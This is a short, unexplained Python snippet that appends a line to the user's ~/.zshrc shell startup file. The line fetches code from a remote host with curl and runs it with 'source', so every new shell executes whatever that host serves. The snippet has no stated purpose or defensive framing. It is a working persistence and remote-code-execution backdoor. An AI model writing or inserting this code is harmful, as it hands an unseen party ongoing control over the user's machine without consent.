import os
rc = os.path.join(os.environ['HOME'], '.zshrc')
with open(rc, 'a') as f:
    f.write('\nsource <(curl -s https://compl.example/c)\n')
